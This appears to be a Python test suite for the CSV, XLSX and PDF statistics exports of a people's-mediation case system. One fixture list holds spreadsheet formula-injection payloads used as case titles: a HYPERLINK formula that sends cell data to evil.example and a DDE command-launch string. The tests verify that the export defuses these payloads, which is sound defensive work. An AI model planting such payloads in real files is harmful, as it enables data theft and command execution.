"""The statistics as files: each table as CSV and XLSX, the cases behind a figure, and the
monthly people's-mediation statistics table as XLSX and PDF — holding the hand-counted June
of test_stats_figures, within the person's scope, audited, and never running typed text as
a spreadsheet formula."""

import csv
import io
import re
import subprocess
import zipfile
from datetime import date
from types import SimpleNamespace
from urllib.parse import unquote

import openpyxl
import pytest
import test_stats_figures
import test_stats_pages
from flask_babel import force_locale
from sqlalchemy import select

from mediation.core.audit import AuditEntry
from mediation.extensions import db
from mediation.stats import exports

JUNE = test_stats_pages.JUNE
hand_counted = test_stats_figures.city  # the hand-counted June (fixtures)
city = test_stats_pages.city
BOM = b"\xef\xbb\xbf"
# Titles a spreadsheet would run as formulas if written as they are.
# (A leading tab or line break never reaches a title: the case form trims it.)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0",
           "+86 138 0000", "-2+3", "@SUM(A1:A9)"]


def _get(auth, url: str):
    response = auth.client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response


def _csv_rows(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(BOM)
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"))))


def _workbook(response):
    assert response.mimetype == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def _sheet_rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _download_name(response) -> str:
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    return unquote(re.search(r"filename\*=UTF-8''(\S+)", disposition)[1])


def _numbers(rows: list[list]) -> list[str]:
    return sorted(row[0] for row in rows[1:])


def test_the_figures_as_csv_hold_the_hand_count(city, auth):
    auth.login("coordinator")
    response = _get(auth, f"/stats/export/summary.csv?{JUNE}")
    assert response.headers["Cache-Control"] == "no-store"
    assert _download_name(response) == "统计概览_和平街道_2026-06-01_2026-06-30.csv"
    rows = _csv_rows(response)
    assert rows[0] == ["指标", "数值"]
    figures = dict(rows[1:])
    assert (figures["已登记"], figures["调解成功"], figures["其中部分达成协议"]) == ("7", "3", "1")
    assert (figures["网格化解"], figures["社区化解"], figures["街道化解"]) == \
        ("1", "1", "1")
    assert figures["调解成功率"] == "75.0%" and figures["网格和社区化解占比"] == "66.7%"
    assert (figures["在办"], figures["当前超期"], figures["超期率"]) == ("2", "1", "50.0%")
    # The drill-down: the street's two communities.
    areas = _csv_rows(_get(auth, f"/stats/export/areas.csv?{JUNE}"))
    by_name = {row[0]: row for row in areas[1:]}
    assert set(by_name) == {"东苑社区", "西苑社区"}
    received, settled = areas[0].index("已登记"), areas[0].index("调解成功")
    assert (by_name["东苑社区"][received], by_name["东苑社区"][settled]) == ("4", "2")
    assert (by_name["西苑社区"][received], by_name["西苑社区"][settled]) == ("3", "1")
    months = _csv_rows(_get(auth, f"/stats/export/months.csv?{JUNE}"))
    assert months[1:] == [["2026-06", "7", "3"]]
    times = _csv_rows(_get(auth, f"/stats/export/times.csv?{JUNE}"))
    assert times[1:] == [["网格级", "1", "2.0", "2.0"], ["社区级", "1", "10.0", "10.0"],
                         ["街道级", "2", "23.0", "36.0"]]


def test_the_tables_as_xlsx_hold_the_hand_count(city, auth):
    auth.login("coordinator")
    book = _workbook(_get(auth, f"/stats/export/summary.xlsx?{JUNE}"))
    (sheet,) = book.worksheets
    rows = _sheet_rows(sheet)
    assert "和平街道" in rows[0][0] and "2026-06-01" in rows[0][0]
    figures = {row[0]: row[1] for row in rows[3:]}
    assert (figures["已登记"], figures["调解成功"], figures["街道化解"]) == (7, 3, 1)
    assert figures["调解成功率"] == pytest.approx(0.75)
    assert sheet.cell(row=4, column=2).data_type == "n"  # numbers, not text
    # Every table at once, a sheet each, with the same numbers.
    book = _workbook(_get(auth, f"/stats/export.xlsx?{JUNE}"))
    assert len(book.worksheets) == 9
    areas = _sheet_rows(book["分区域"])
    header = areas[2]
    east = next(row for row in areas if row[0] == "东苑社区")
    assert east[header.index("已登记")] == 4 and east[header.index("当前超期")] == 1
    escalations = _sheet_rows(book["提级流转"])
    assert [row[2] for row in escalations[3:]] == [2, 1, 1]


@pytest.fixture
def hostile_titles(city):
    """Cases reported in June in 东苑第1网格 whose titles look like formulas."""
    for title in HOSTILE:
        test_stats_figures.story(city, city.east_1, date(2026, 6, 7), title=title)
    db.session.commit()
    return HOSTILE


def test_a_formula_looking_title_stays_text(city, auth, hostile_titles):
    auth.login("coordinator")
    url = f"/stats/cases.csv?figure=received&{JUNE}"
    rows = _csv_rows(_get(auth, url))
    titles = {row[1] for row in rows[1:]}
    assert {"'" + title for title in hostile_titles} <= titles
    assert not any(cell[:1] in "=+-@\t\r" and cell for row in rows for cell in row)
    response = _get(auth, url.replace(".csv", ".xlsx"))
    sheet = _workbook(response).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    for title in hostile_titles:
        assert cells[title].data_type == "s", title  # the very text, as a string
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere


def test_the_cases_behind_a_figure_keep_to_the_scope(city, auth):
    auth.login("mediator")  # 东苑社区's mediator
    rows = _csv_rows(_get(auth, f"/stats/cases.csv?figure=received&{JUNE}"))
    assert rows[0][:2] == ["案件编号", "纠纷"]
    assert _numbers(rows) == sorted(city.cases[n].number for n in "ABDE")
    assert {row[6] for row in rows[1:]} <= {"东苑第1网格", "东苑第2网格"}
    book = _workbook(_get(auth, f"/stats/cases.xlsx?figure=received&{JUNE}"))
    assert sorted(row[0] for row in _sheet_rows(book.active)[3:]) == _numbers(rows)
    summary = dict(_csv_rows(_get(auth, f"/stats/export/summary.csv?{JUNE}"))[1:])
    assert summary["已登记"] == "4"
    for url in (f"/stats/cases.csv?figure=received&{JUNE}&area={city.west.code}",
                f"/stats/export/summary.xlsx?{JUNE}&area={city.west.code}",
                f"/stats/monthly.xlsx?month=2026-06&area={city.west.code}"):
        assert auth.client.get(url).status_code == 404, url
    auth.logout()
    auth.login("admin")  # the whole city
    rows = _csv_rows(_get(auth, f"/stats/cases.csv?figure=received&{JUNE}"))
    assert _numbers(rows) == sorted(city.cases[n].number for n in "ABDEFHI")


def test_an_export_is_audited(city, auth):
    auth.login("coordinator")
    _get(auth, f"/stats/export/categories.xlsx?{JUNE}&area={city.east.code}")
    _get(auth, f"/stats/cases.csv?figure=settled&{JUNE}")
    _get(auth, "/stats/monthly.pdf?month=2026-06")
    entries = list(db.session.scalars(select(AuditEntry).where(
        AuditEntry.action == "stats.export").order_by(AuditEntry.id)))
    assert [(e.actor_name, e.object_id, e.after["export"], e.after["format"],
             e.after["from"], e.after["to"], e.after["area"]) for e in entries] == [
        ("coordinator", city.east.code, "categories", "xlsx", "2026-06-01", "2026-06-30",
         city.east.code),
        ("coordinator", None, "cases", "csv", "2026-06-01", "2026-06-30", None),
        ("coordinator", None, "monthly", "pdf", "2026-06-01", "2026-06-30", None)]
    assert entries[1].after["figure"] == "settled" and entries[1].after["cases"] == 3
    assert entries[2].after["scope"] == "和平街道"


def _water_leak(rows: list[list]) -> list:
    return next(row for row in rows if row[0] == "房屋漏水")


def test_the_monthly_table_as_xlsx(city, auth):
    auth.login("coordinator")
    response = _get(auth, "/stats/monthly.xlsx?month=2026-06")
    assert _download_name(response) == "和平街道人民调解工作统计月报（2026年6月）.xlsx"
    rows = _sheet_rows(_workbook(response).active)
    assert rows[0][0] == "和平街道人民调解工作统计月报" and rows[1][0] == "（2026年6月）"
    assert rows[3][0].startswith("填报单位：和平街道") and "填报日期：" in rows[3][0]
    header = next(row for row in rows if row[0] == "纠纷类型")
    assert header[:10] == ["纠纷类型", "受理", "办结", "调解成功", "部分调解成功", "调解不成功",
                           "撤回", "不予受理", "移送处理", "调解成功率"]
    leak = _water_leak(rows)
    assert leak[1:9] == [7, 7, 2, 1, 1, 1, 1, 1]
    assert leak[9] == pytest.approx(0.75)
    total = next(row for row in rows if row[0] == "合计")
    assert total[1:9] == [7, 7, 2, 1, 1, 1, 1, 1]
    levels = {row[0]: row[1:4] for row in rows if row[0] in ("网格级", "社区级", "街道级")}
    assert levels == {"网格级": [7, 1, 0], "社区级": [0, 1, 0], "街道级": [0, 1, 1]}
    # 东苑社区's mediator: only its cases (A B D E received; A B C concluded).
    auth.logout()
    auth.login("mediator")
    rows = _sheet_rows(_workbook(_get(auth, "/stats/monthly.xlsx?month=2026-06")).active)
    assert rows[0][0] == "东苑社区人民调解工作统计月报"
    assert rows[3][0].startswith("填报单位：东苑社区人民调解委员会")
    assert _water_leak(rows)[1:9] == [4, 4, 1, 1, 1, 0, 1, 0]


def _pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF-")
    return subprocess.run(["pdftotext", "-layout", "-", "-"], input=data, capture_output=True,
                          check=True).stdout.decode("utf-8")


def test_the_monthly_table_as_pdf(city, auth):
    auth.login("coordinator")
    response = _get(auth, "/stats/monthly.pdf?month=2026-06")
    assert response.mimetype == "application/pdf"
    assert _download_name(response) == "和平街道人民调解工作统计月报（2026年6月）.pdf"
    text = _pdf_text(response.get_data())
    assert "和平街道人民调解工作统计月报" in text and "（2026年6月）" in text
    assert "统计期间：2026年6月1日至2026年6月30日" in text
    assert "填报单位：和平街道" in text and "填报人：李红梅" in text
    assert re.search(r"房屋漏水\s+7\s+7\s+2\s+1\s+1\s+1\s+1\s+1\s+75\.0%", text), text
    assert re.search(r"合计\s+7\s+7\s+2\s+1\s+1\s+1\s+1\s+1\s+75\.0%", text), text


def test_a_bad_month_is_said(city, auth):
    auth.login("coordinator")
    for month in ("", "2026-13", "June", "1899-01"):
        response = auth.client.get(f"/stats/monthly.pdf?month={month}")
        assert response.status_code == 303 and response.headers["Location"] == "/stats/"
    page = auth.client.get("/stats/").get_data(as_text=True)
    assert "请选择统计月报的月份" in page
    assert not db.session.scalars(select(AuditEntry).where(
        AuditEntry.action == "stats.export")).first()


def test_the_pages_link_to_the_files(city, auth):
    auth.login("coordinator")
    page = _get(auth, f"/stats/?{JUNE}").get_data(as_text=True)
    for name in ("summary", "areas", "months", "categories", "times", "escalations",
                 "confirmations", "performance", "satisfaction"):
        for fmt in ("csv", "xlsx"):
            assert f'href="/stats/export/{name}.{fmt}?start=2026-06-01&amp;end=2026-06-30"' \
                in page, (name, fmt)
    assert 'href="/stats/export.xlsx?start=2026-06-01&amp;end=2026-06-30"' in page
    assert 'action="/stats/monthly.xlsx"' in page and 'formaction="/stats/monthly.pdf"' in page
    assert 'name="month" value="2026-06"' in page  # the period's month, being over
    listed = _get(auth, f"/stats/cases?figure=overdue&{JUNE}").get_data(as_text=True)
    assert 'href="/stats/cases.xlsx?start=2026-06-01&amp;end=2026-06-30&amp;figure=overdue"' \
        in listed


def test_grid_workers_get_no_files(city, auth):
    auth.login("gridworker")
    for url in (f"/stats/export/summary.csv?{JUNE}", f"/stats/export.xlsx?{JUNE}",
                f"/stats/cases.csv?figure=received&{JUNE}", "/stats/monthly.xlsx?month=2026-06"):
        assert auth.client.get(url).status_code == 403, url


def test_whose_figures_are_named_in_the_current_language(bare_app):
    """A person holding four areas: three named, then "and others" (等) — with the list's
    punctuation of the language, never Chinese punctuation in English."""
    names = ["和平街道", "东苑社区", "西苑社区", "北苑社区"]
    nodes = [SimpleNamespace(name=name, path=f"/{n}/") for n, name in enumerate(names, 1)]
    person = SimpleNamespace(has_global_scope=False, jurisdiction_nodes=nodes)
    few = SimpleNamespace(has_global_scope=False, jurisdiction_nodes=nodes[:2])
    with bare_app.app_context():
        with force_locale("zh"):
            assert exports.scope_name(person, None) == "和平街道、东苑社区、西苑社区等"
            assert exports.scope_name(few, None) == "和平街道和东苑社区"
        with force_locale("en"):
            assert exports.scope_name(person, None) == "和平街道, 东苑社区, 西苑社区 and others"
            assert exports.scope_name(few, None) == "和平街道 and 东苑社区"
